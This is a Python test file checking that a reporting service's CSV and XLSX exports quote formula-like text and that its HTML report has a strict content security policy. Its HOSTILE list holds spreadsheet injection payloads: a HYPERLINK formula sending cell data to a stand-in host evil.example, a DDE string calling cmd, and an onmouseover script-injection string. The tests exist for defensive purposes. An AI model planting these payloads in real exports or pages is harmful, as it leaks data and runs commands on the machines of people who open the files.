"""Spreadsheet exports never turn text into formulas, and the HTML report runs no script.

Hostile text goes in wherever people type text that reaches the annual report (catalogue
title, cluster, compliance point and question names, seminar topics and organisations, course
titles, regions); every CSV and XLSX cell must come out inert.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import zipfile
from collections.abc import AsyncIterator
from datetime import date
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from services.reporting.annual.exports import FORMULA_TRIGGERS, neutralise
from tests.reporting.conftest import sync_sources
from tests.reporting.feedgen import (
    FakeSource,
    FeedLog,
    assessment_payload,
    catalog_payload,
    catalog_questions,
    factory_payload,
)
from tests.support import auth_header

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,1)",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
URL = "/v1/reports/annual/2024"
STAFF = auth_header("staff")


def hostile_feeds() -> dict[str, FakeSource]:
    """Six factories (enough for the public edition) assessed in 2024 against a catalogue whose
    every name is hostile."""
    assessment, training = FeedLog(), FeedLog()
    catalog = catalog_payload("cat_evil", points_per_cluster=1, questions_per_point=2)
    catalog["title"] = HOSTILE[0]
    texts = iter(HOSTILE * 20)
    for cluster in catalog["clusters"]:
        cluster["name"] = next(texts)
        cluster["category"] = 'x" onmouseover="alert(1)'
        for point in cluster["compliance_points"]:
            point["name"] = next(texts)
            for question in point["questions"]:
                question["text"] = next(texts)
    assessment.add("catalog.published", catalog)
    findings = {q["code"] for q in catalog_questions(catalog)}
    for n in range(6):
        assessment.add(
            "factory.created", factory_payload(f"fac_{n}", region=HOSTILE[n % len(HOSTILE)])
        )
        assessment.add(
            "assessment.published",
            assessment_payload(
                f"asm_{n}",
                f"fac_{n}",
                catalog,
                visit_end=date(2024, 3 + n, 10),
                non_compliant=findings,
            ),
        )
    training.add(
        "course.created",
        {"id": "crs_x", "code": "X", "title": HOSTILE[1], "topic": "osh", "audience": []},
    )
    training.add(
        "seminar.created",
        {
            "id": "sem_x",
            "kind": "industry_seminar",
            "event_date": "2024-06-01",
            "topic": HOSTILE[2],
            "organisations": HOSTILE[3:6],
            "participants_women": 3,
            "participants_men": 2,
        },
    )
    return {"assessment": FakeSource(assessment), "training": FakeSource(training)}


@pytest.fixture
async def hostile_app(reporting_app: FastAPI) -> FastAPI:
    await sync_sources(reporting_app, hostile_feeds())
    return reporting_app


@pytest.fixture
async def client(hostile_app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=hostile_app)
    async with httpx.AsyncClient(transport=transport, base_url="http://reporting") as c:
        yield c


def is_inert(value: Any) -> bool:
    return not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("edition", ["full", "public"])
async def test_csv_cells_never_start_a_formula(client: httpx.AsyncClient, edition: str) -> None:
    headers = STAFF if edition == "full" else {}
    response = await client.get(URL, params={"country": "UZ", "format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    offending = [cell for cell in cells if not is_inert(cell) and not re.fullmatch(r"-?\d+", cell)]
    assert offending == []
    # The hostile text did reach the export, neutralised rather than dropped.
    assert "'+SUM(1,1)" in cells and "'=1+1" in cells


async def _published_xlsx(client: httpx.AsyncClient) -> bytes:
    published = await client.post(URL + "/publications", params={"country": "UZ"}, headers=STAFF)
    assert published.status_code == 201, published.text
    frozen = await client.get(published.headers["location"], params={"format": "xlsx"})
    assert frozen.status_code == 200
    return frozen.content


@pytest.mark.parametrize("source", ["live", "publication"])
async def test_xlsx_holds_no_formula_and_no_cell_starts_one(
    client: httpx.AsyncClient, source: str
) -> None:
    if source == "live":
        response = await client.get(URL, params={"country": "UZ", "format": "xlsx"}, headers=STAFF)
        assert response.status_code == 200, response.text
        content = response.content
    else:
        content = await _published_xlsx(client)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = {name: archive.read(name).decode() for name in sheets}
    assert len(sheets) >= 5
    for name, body in xml.items():
        assert re.search(r"<f[\s>/]", body) is None, f"formula element in {name}"
    workbook = load_workbook(io.BytesIO(content))
    values = [c.value for s in workbook.worksheets for row in s.iter_rows() for c in row]
    assert [v for v in values if not is_inert(v)] == []
    assert "'=1+1" in values and "'@SUM(1,1)" in values
    # Counts stay numbers a spreadsheet can add up.
    points = workbook["Compliance points"]
    header = [c.value for c in points[1]]
    assessed = [row[header.index("factories_assessed")] for row in points.iter_rows(min_row=2)]
    assert assessed and all(cell.data_type == "n" and cell.value == 6 for cell in assessed)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,1)", "'+SUM(1,1)"),
        ("-1+2", "'-1+2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Охрана труда", "Охрана труда"),
        ("-3", "-3"),
        ("-0.25", "-0.25"),
        (-3, -3),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_neutralise_quotes_formula_text_and_keeps_numbers(value: Any, written: Any) -> None:
    assert neutralise(value) == written


async def test_html_report_is_served_with_a_strict_content_security_policy(
    hostile_app: FastAPI, gateway_client: httpx.AsyncClient
) -> None:
    response = await gateway_client.get(URL, params={"country": "UZ", "format": "html"})
    assert response.status_code == 200, response.text
    policy = response.headers["content-security-policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert "script-src" not in directives and "unsafe" not in policy
    html = response.text
    styles = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
    assert styles, "the report's stylesheet is gone"
    for css in styles:
        digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in directives["style-src"]
    assert response.headers["x-content-type-options"] == "nosniff"
    # Catalogue text stays text in the charts' attributes too.
    charts = [ElementTree.fromstring(svg) for svg in re.findall(r"<svg.*?</svg>", html, re.S)]
    assert charts and not any("onmouseover" in e.attrib for c in charts for e in c.iter())
